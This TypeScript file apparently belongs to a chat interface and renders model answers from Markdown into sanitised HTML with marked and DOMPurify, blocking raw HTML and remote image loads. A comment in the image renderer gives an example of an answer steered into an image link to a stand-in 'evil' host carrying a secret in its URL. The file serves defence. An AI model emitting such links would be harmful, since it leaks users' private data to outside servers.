import DOMPurify from 'dompurify';
import { Marked } from 'marked';

function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}

const markdown = new Marked({
  gfm: true,
  breaks: true,
  async: false,
  renderer: {
    // Code comes out escaped and plain; highlight.ts colours it after the first paint.
    code({ text, lang }) {
      const language = (lang ?? '').trim().split(/\s+/)[0].toLowerCase();
      const label = language ? ` data-language="${escapeHtml(language)}"` : '';
      return `<pre${label}><code class="hljs">${escapeHtml(text)}</code></pre>\n`;
    },
    // Raw HTML in an answer is shown as text, never interpreted: model output is untrusted.
    html({ text }) {
      return escapeHtml(text);
    },
    // Loading a remote image would tell its server whatever the model put in the URL (an answer
    // can be steered into `![x](https://evil/?q=<secret>)`): such an image becomes a link instead.
    image({ href, text }) {
      if (loadsNothingRemote(href)) return false;
      return `<a href="${escapeHtml(href)}">${escapeHtml(text || href)}</a>`;
    },
  },
});

/** An image URL the page may load: same origin as the page, or inline `data:image/…`. */
export function loadsNothingRemote(url: string): boolean {
  try {
    const parsed = new URL(url, document.baseURI);
    return parsed.origin === location.origin || (parsed.protocol === 'data:' && /^data:image\//i.test(parsed.href));
  } catch {
    return false;
  }
}

let purifierReady = false;

function purifier(): typeof DOMPurify {
  if (!purifierReady) {
    // Links open in a new tab and pass nothing to the page they open.
    DOMPurify.addHook('afterSanitizeAttributes', (node) => {
      if (node.tagName === 'A') {
        node.setAttribute('target', '_blank');
        node.setAttribute('rel', 'noopener noreferrer nofollow');
      }
      // Second layer for images: whatever HTML reaches the page never loads one from elsewhere.
      if (node.tagName === 'IMG' && !loadsNothingRemote(node.getAttribute('src') ?? '')) {
        node.removeAttribute('src');
      }
    });
    purifierReady = true;
  }
  return DOMPurify;
}

/** The second layer: whatever HTML reaches the page goes through DOMPurify with a strict profile. */
export function sanitizeHtml(html: string): string {
  return purifier().sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'option', 'iframe', 'object', 'embed'],
    FORBID_ATTR: ['style', 'srcset'],
    ALLOW_DATA_ATTR: false,
    ADD_ATTR: ['target', 'data-language'],
  });
}

/**
 * Markdown → safe HTML. Two layers: raw HTML is escaped at parse time, and the result goes through
 * DOMPurify (no script, no event handler attribute, no javascript: URL, no form controls or styles).
 */
export function renderMarkdown(source: string): string {
  return sanitizeHtml(markdown.parse(source) as string);
}

const cache = new Map<string, string>();
const CACHE_LIMIT = 400;

/** renderMarkdown, remembered for finished messages so scrolling back does not re-parse them. */
export function renderMarkdownCached(source: string): string {
  const hit = cache.get(source);
  if (hit !== undefined) return hit;
  const html = renderMarkdown(source);
  if (cache.size >= CACHE_LIMIT) cache.delete(cache.keys().next().value as string);
  cache.set(source, html);
  return html;
}
